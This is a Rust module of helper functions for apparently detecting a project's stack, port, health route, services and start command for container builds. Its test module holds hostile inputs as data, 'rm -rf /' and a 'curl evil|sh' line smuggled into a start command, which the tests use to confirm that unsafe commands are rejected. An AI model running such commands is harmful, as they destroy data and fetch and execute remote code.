//! Helpers shared by the providers: building a [`Detection`] with evidence, finding lines,
//! resolving the port in the documented order, spotting health routes and services; reading
//! a plan's hints and manifests.

use super::{Detection, Evidence, Service, Stack};
use crate::plan::{Plan, BUSYBOX_PATH};
use crate::project::Project;
use crate::Result;
use regex::Regex;
use std::sync::LazyLock;

/// How many source files a detector reads at most when looking for ports and routes.
pub const SOURCE_BUDGET: usize = 200;

/// 1-based line of byte offset `idx` in `text`.
pub fn line_of(text: &str, idx: usize) -> u32 {
    let idx = idx.min(text.len());
    (text.as_bytes()[..idx]
        .iter()
        .filter(|&&b| b == b'\n')
        .count()
        + 1) as u32
}

/// First line matching `re`, with its first capture group (or whole match).
pub fn find_re(text: &str, re: &Regex) -> Option<(String, u32)> {
    let c = re.captures(text)?;
    let m = c.get(1).or_else(|| c.get(0))?;
    Some((m.as_str().to_string(), line_of(text, m.start())))
}

/// Line of the first occurrence of `needle`.
pub fn find_line(text: &str, needle: &str) -> Option<u32> {
    text.find(needle).map(|i| line_of(text, i))
}

/// Line where a TOML key `key = ...` (or `"key" = ...`) first starts a line.
pub fn toml_key_line(text: &str, key: &str) -> Option<u32> {
    text.lines()
        .position(|l| {
            let l = l.trim_start();
            let rest = l
                .strip_prefix(key)
                .or_else(|| l.strip_prefix(&format!("\"{key}\"")));
            rest.is_some_and(|r| r.trim_start().starts_with('='))
        })
        .map(|i| i as u32 + 1)
}

/// Line where a JSON object key `"key":` first appears.
pub fn json_key_line(text: &str, key: &str) -> Option<u32> {
    let quoted = serde_json::to_string(key).ok()?;
    let mut from = 0;
    while let Some(i) = text[from..].find(&quoted) {
        let at = from + i;
        let rest = text[at + quoted.len()..].trim_start();
        if rest.starts_with(':') {
            return Some(line_of(text, at));
        }
        from = at + quoted.len();
    }
    None
}

/// A detection under construction.
pub struct Out {
    pub d: Detection,
}

impl Out {
    pub fn new(stack: Stack, file: &str, line: Option<u32>, detail: impl Into<String>) -> Self {
        let mut out = Out {
            d: Detection::empty(stack),
        };
        out.ev("stack", file, line, detail);
        out
    }

    pub fn ev(&mut self, field: &str, file: &str, line: Option<u32>, detail: impl Into<String>) {
        self.d.evidence.push(Evidence {
            field: field.into(),
            file: file.into(),
            line,
            detail: detail.into(),
        });
    }

    pub fn framework(
        &mut self,
        name: &str,
        file: &str,
        line: Option<u32>,
        detail: impl Into<String>,
    ) {
        self.d.framework = Some(name.into());
        self.ev("framework", file, line, detail);
    }

    pub fn package_manager(
        &mut self,
        name: &str,
        file: &str,
        line: Option<u32>,
        detail: impl Into<String>,
    ) {
        self.d.package_manager = Some(name.into());
        self.ev("package_manager", file, line, detail);
    }

    pub fn version(&mut self, v: &str, file: &str, line: Option<u32>, detail: impl Into<String>) {
        if self.d.language_version.is_none() {
            self.d.language_version = Some(v.trim().to_string());
            self.ev("language_version", file, line, detail);
        }
    }

    pub fn start(
        &mut self,
        argv: Vec<String>,
        file: &str,
        line: Option<u32>,
        detail: impl Into<String>,
    ) {
        self.d.start_command = argv;
        self.ev("start_command", file, line, detail);
    }

    pub fn hint(&mut self, key: &str, value: impl Into<String>) {
        self.d.hints.insert(key.into(), value.into());
    }

    /// Record the manifests and lockfiles among `names` that exist.
    pub fn manifests(&mut self, project: &Project, names: &[&str]) {
        for n in names {
            if project.has(n) && !self.d.manifests.iter().any(|m| m == n) {
                self.d.manifests.push((*n).to_string());
            }
        }
    }

    pub fn service(
        &mut self,
        s: Service,
        file: &str,
        line: Option<u32>,
        detail: impl Into<String>,
    ) {
        if !self.d.services.contains(&s) {
            self.d.services.push(s);
            self.d.services.sort();
            self.ev("services", file, line, detail);
        }
    }

    /// Finish: add services named by connection URLs in `.env` files, and attach what the
    /// walk skipped, so nothing is dropped silently.
    pub fn finish(mut self, project: &Project) -> Detection {
        for f in [".env", ".env.example", ".env.sample"] {
            let Ok(Some(text)) = project.read_opt(f) else {
                continue;
            };
            for c in ENV_URL.captures_iter(&text) {
                let (Some(var), Some(scheme)) = (c.get(1), c.get(2)) else {
                    continue;
                };
                let svc = match scheme.as_str() {
                    "postgres" | "postgresql" => Service::Postgres,
                    "mysql" | "mariadb" => Service::Mysql,
                    "redis" | "rediss" => Service::Redis,
                    "mongodb" | "mongodb+srv" => Service::Mongodb,
                    "amqp" | "amqps" => Service::Rabbitmq,
                    _ => Service::Memcached,
                };
                let line = Some(line_of(&text, var.start()));
                self.service(
                    svc,
                    f,
                    line,
                    format!("{} is a {} URL", var.as_str(), scheme.as_str()),
                );
            }
        }
        for s in project.skipped().iter().take(20) {
            self.ev("skipped", &s.path, None, s.reason.clone());
        }
        self.d
    }
}

pub fn argv(parts: &[&str]) -> Vec<String> {
    parts.iter().map(|s| (*s).to_string()).collect()
}

/// A dependency seen in a manifest: name (as written), file, line.
#[derive(Debug, Clone)]
pub struct Dep {
    pub name: String,
    pub file: String,
    pub line: Option<u32>,
}

impl Dep {
    pub fn new(name: impl Into<String>, file: &str, line: Option<u32>) -> Self {
        Dep {
            name: name.into(),
            file: file.into(),
            line,
        }
    }
}

pub fn find_dep<'a>(deps: &'a [Dep], name: &str) -> Option<&'a Dep> {
    deps.iter().find(|d| d.name.eq_ignore_ascii_case(name))
}

/// Map dependencies to services through a table of (dependency name, service).
pub fn services_from(out: &mut Out, deps: &[Dep], table: &[(&str, Service)]) {
    for (name, svc) in table {
        if let Some(d) = find_dep(deps, name) {
            out.service(*svc, &d.file, d.line, format!("dependency {}", d.name));
        }
    }
}

/// A port candidate with where it came from.
pub struct PortFound {
    pub port: u16,
    pub file: String,
    pub line: Option<u32>,
    pub detail: String,
}

static ENV_URL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?m)^\s*(?:export\s+)?([A-Z][A-Z0-9_]*)\s*=\s*["']?(postgres|postgresql|mysql|mariadb|redis|rediss|mongodb\+srv|mongodb|amqps?|memcached?)://"#,
    )
});
static EXPOSE: LazyLock<Regex> = LazyLock::new(|| re(r"(?mi)^\s*EXPOSE\s+(\d{1,5})"));
static ENV_PORT: LazyLock<Regex> =
    LazyLock::new(|| re(r#"(?m)^\s*(?:export\s+)?PORT\s*=\s*["']?(\d{1,5})"#));

pub fn re(pattern: &str) -> Regex {
    // Patterns are literals in this crate and covered by tests.
    Regex::new(pattern).unwrap_or_else(|e| panic!("bad detector regex {pattern}: {e}"))
}

/// Well-known ports of backing services, never taken as the app's port from the source.
const BACKING_SERVICE_PORTS: &[&str] = &["5432", "3306", "6379", "27017", "5672", "11211", "9200"];

/// Resolve the port, most explicit first:
/// 1. `Dockerfile` `EXPOSE`;
/// 2. stack configuration (`config`, e.g. `server.port`);
/// 3. `.env` `PORT=`;
/// 4. listen/bind/run calls in the source (`source_res`, first capture = port);
/// 5. the framework's documented default.
pub fn resolve_port(
    out: &mut Out,
    project: &Project,
    config: Option<PortFound>,
    sources: &[&str],
    source_res: &[&Regex],
    default: Option<(u16, &str)>,
) -> Result<()> {
    let mut found = None;
    if let Some(text) = project.read_opt("Dockerfile")? {
        if let Some((p, line)) = find_re(&text, &EXPOSE) {
            found = port_of(
                &p,
                "Dockerfile",
                Some(line),
                "EXPOSE in the Dockerfile (explicit configuration)",
            );
        }
    }
    if found.is_none() {
        found = config;
    }
    if found.is_none() {
        if let Some(text) = project.read_opt(".env")? {
            if let Some((p, line)) = find_re(&text, &ENV_PORT) {
                found = port_of(
                    &p,
                    ".env",
                    Some(line),
                    "PORT in .env (explicit configuration)",
                );
            }
        }
    }
    if found.is_none() {
        'files: for f in sources {
            let Ok(text) = project.read(f) else { continue };
            for r in source_res {
                for c in r.captures_iter(&text) {
                    let Some(m) = c.get(1) else { continue };
                    if BACKING_SERVICE_PORTS.contains(&m.as_str()) {
                        continue; // `port: 5432` in a database config is not the app's port
                    }
                    let call = c.get(0).map(|m| m.as_str().trim()).unwrap_or_default();
                    found = port_of(
                        m.as_str(),
                        f,
                        Some(line_of(&text, m.start())),
                        format!("port in the source: `{}`", short(call)),
                    );
                    if found.is_some() {
                        break 'files;
                    }
                }
            }
        }
    }
    if let Some(f) = found {
        out.d.port = Some(f.port);
        out.ev("port", &f.file, f.line, f.detail);
    } else if let Some((port, why)) = default {
        out.d.port = Some(port);
        let file = out
            .d
            .evidence
            .iter()
            .find(|e| e.field == "framework")
            .or_else(|| out.d.evidence.first())
            .map(|e| e.file.clone())
            .unwrap_or_default();
        out.ev("port", &file, None, format!("default: {why}"));
    }
    Ok(())
}

pub fn port_of(
    p: &str,
    file: &str,
    line: Option<u32>,
    detail: impl Into<String>,
) -> Option<PortFound> {
    let port: u16 = p.parse().ok().filter(|&p| p > 0)?;
    Some(PortFound {
        port,
        file: file.into(),
        line,
        detail: detail.into(),
    })
}

fn short(s: &str) -> String {
    let one: String = s.split_whitespace().collect::<Vec<_>>().join(" ");
    if one.chars().count() > 80 {
        one.chars().take(77).collect::<String>() + "..."
    } else {
        one
    }
}

/// Health routes, most useful for a container health check first.
pub const HEALTH_PATHS: &[&str] = &[
    "/healthz",
    "/health",
    "/livez",
    "/api/health",
    "/api/healthz",
    "/healthcheck",
    "/readyz",
    "/ready",
];

static HEALTH: LazyLock<Regex> =
    LazyLock::new(|| re(r#"["'`](/(?:api/)?(?:healthz?|livez|readyz?|healthcheck))/?["'`]"#));

/// Look for a health route string literal in `sources`.
pub fn scan_health(out: &mut Out, project: &Project, sources: &[&str]) {
    let mut best: Option<(usize, String, String, u32)> = None;
    for f in sources {
        let Ok(text) = project.read(f) else { continue };
        for c in HEALTH.captures_iter(&text) {
            let Some(m) = c.get(1) else { continue };
            let Some(rank) = HEALTH_PATHS.iter().position(|p| *p == m.as_str()) else {
                continue;
            };
            if best.as_ref().is_none_or(|b| rank < b.0) {
                best = Some((
                    rank,
                    m.as_str().into(),
                    (*f).into(),
                    line_of(&text, m.start()),
                ));
            }
        }
        if best.as_ref().is_some_and(|b| b.0 == 0) {
            break;
        }
    }
    if let Some((_, path, file, line)) = best {
        out.d.health_path = Some(path.clone());
        out.ev(
            "health_path",
            &file,
            Some(line),
            format!("route {path} in the source"),
        );
    }
}

/// First non-empty, non-comment line of a version file such as `.nvmrc`.
pub fn version_file(project: &Project, rel: &str) -> Result<Option<(String, u32)>> {
    let Some(text) = project.read_opt(rel)? else {
        return Ok(None);
    };
    for (i, l) in text.lines().enumerate() {
        let t = l.trim();
        if !t.is_empty() && !t.starts_with('#') {
            return Ok(Some((t.to_string(), i as u32 + 1)));
        }
    }
    Ok(None)
}

/// Turn a TOML parse error into an `InvalidManifest` with the line.
pub fn toml_error(file: &str, text: &str, e: &toml::de::Error) -> crate::Error {
    crate::Error::InvalidManifest {
        file: file.into(),
        line: e.span().map(|s| line_of(text, s.start)),
        message: e
            .message()
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty())
            .collect::<Vec<_>>()
            .join(": "),
    }
}

/// A simple command string (`node server.js`) as argv, or None when it needs a shell.
pub fn simple_argv(cmd: &str) -> Option<Vec<String>> {
    let bad = |c: char| "\"'`$&|;<>(){}\\*?!~#\n\r".contains(c);
    if cmd.trim().is_empty() || cmd.chars().any(bad) {
        return None;
    }
    let parts: Vec<String> = cmd.split_whitespace().map(String::from).collect();
    if parts.first().is_some_and(|p| p.contains('=')) {
        return None; // leading VAR=value needs a shell
    }
    Some(parts)
}

/// A plan hint's value (see [`super::hint_keys`]).
pub fn plan_hint<'a>(plan: &'a Plan, key: &str) -> Option<&'a str> {
    plan.hints.get(key).map(String::as_str)
}

/// Whether the plan copies a manifest named `name` (at the root or in a folder).
pub fn has_manifest(plan: &Plan, name: &str) -> bool {
    plan.manifests
        .iter()
        .any(|m| m == name || m.ends_with(&format!("/{name}")))
}

/// A health probe: `head` followed by the URL.
pub fn probe(head: &[&str], url: String) -> Vec<String> {
    let mut argv = argv(head);
    argv.push(url);
    argv
}

/// The probe of compiled stacks: the static busybox's wget (see `plan::BUSYBOX_PATH`).
pub fn busybox_probe(url: String) -> Vec<String> {
    probe(&[BUSYBOX_PATH, "wget", "-q", "-O", "/dev/null"], url)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn lines_and_keys() {
        let t = "{\n  \"name\": \"x\",\n  \"dependencies\": {\"name\" : 1}\n}";
        assert_eq!(json_key_line(t, "name"), Some(2));
        assert_eq!(json_key_line(t, "dependencies"), Some(3));
        assert_eq!(line_of(t, 0), 1);
        assert_eq!(find_line(t, "dependencies"), Some(3));
    }

    #[test]
    fn simple_commands_only() {
        assert_eq!(
            simple_argv("node server.js").unwrap(),
            vec!["node", "server.js"]
        );
        assert!(simple_argv("NODE_ENV=production node a.js").is_none());
        assert!(simple_argv("node a.js && rm -rf /").is_none());
        assert!(simple_argv("node $(x)").is_none());
        assert!(simple_argv("node a.js\nRUN curl evil|sh").is_none());
    }

    #[test]
    fn health_regex() {
        let c = HEALTH.captures("app.get('/healthz', h)").unwrap();
        assert_eq!(&c[1], "/healthz");
        assert!(HEALTH.captures("'/healthy'").is_none());
    }
}
